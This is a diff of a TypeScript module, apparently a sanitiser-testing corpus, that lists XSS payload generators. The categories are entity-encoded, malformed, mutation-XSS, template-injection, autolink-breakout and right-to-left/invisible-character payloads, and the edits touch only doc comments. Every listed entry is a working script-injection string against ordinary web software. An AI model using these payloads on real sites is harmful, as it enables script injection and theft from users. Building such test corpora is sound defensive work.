@@ -1,4 +1,4 @@
-/** Makes hostile text of the code that would run if it were believed. */
+/** Wraps code in hostile text that would run it if the text were trusted. */
 export type Payload = (code: string) => string
 
 const image = (code: string) => `<img src=x onerror=${code}>`
@@ -6,7 +6,7 @@ const spelled = (text: string, spell: (unit: number) => string) =>
   [...text].map((character) => spell(character.codePointAt(0) ?? 0)).join('')
 const hex = (unit: number, digits: number) => unit.toString(16).padStart(digits, '0')
 
-/** Harmless until somebody decodes once too often. */
+/** Harmless unless decoded once too often. */
 export const encoded: readonly Payload[] = [
   (code) => image(code).replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
   (code) => image(code).replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
@@ -35,7 +35,7 @@ export const encoded: readonly Payload[] = [
   (code) => `<script>setTimeout('${code}')</script>`,
 ]
 
-/** What no parser should meet, and every browser mends in its own way. */
+/** Markup that no parser should meet, and every browser repairs in its own way. */
 export const malformed: readonly Payload[] = [
   (code) => `<<img src=x onerror=${code}>>`,
   (code) => `<img src=x onerror=${code}`,
@@ -69,7 +69,7 @@ export const malformed: readonly Payload[] = [
   (code) => `<frameset onload=${code}><frame></frameset>`,
 ]
 
-/** Clean when they are looked at, and something else when they are written down and parsed again. */
+/** Clean when checked, and something else after being serialised and parsed again. */
 export const mutating: readonly Payload[] = [
   (code) => `<noscript><p title="</noscript>${image(code)}">`,
   (code) => `<math><mtext><table><mglyph><style><!--</style>${image(code)}`,
@@ -101,7 +101,7 @@ export const mutating: readonly Payload[] = [
   (code) => `<i style="transition:color 1ms" ontransitionend=${code} class=x>word`,
 ]
 
-/** For those who put text into a template, an object or a command. */
+/** For code that puts text into a template, an object or a command. */
 export const templates: readonly Payload[] = [
   (code) => `{{constructor.constructor('${code}')()}}`,
   (code) => `{{$on.constructor('${code}')()}}`,
@@ -131,7 +131,7 @@ export const templates: readonly Payload[] = [
   (code) => `<javascript:${code}>`,
 ]
 
-/** Around what becomes a link, a mention or a hashtag. */
+/** Around text that becomes a link, a mention or a hashtag. */
 export const marked: readonly Payload[] = [
   (code) => `http://a.example/"onmouseover="${code}`,
   (code) => `http://a.example/'onmouseover='${code}`,
@@ -157,7 +157,7 @@ export const marked: readonly Payload[] = [
   (code) => `//a.example/" onclick=${code}`,
 ]
 
-/** Text that runs the other way, or that holds what nobody sees. */
+/** Right-to-left text, and invisible characters. */
 export const turned: readonly Payload[] = [
   (code) => `\u202e<img src=x onerror=${code}>`,
   (code) => `\u2067${image(code)}\u2069`,
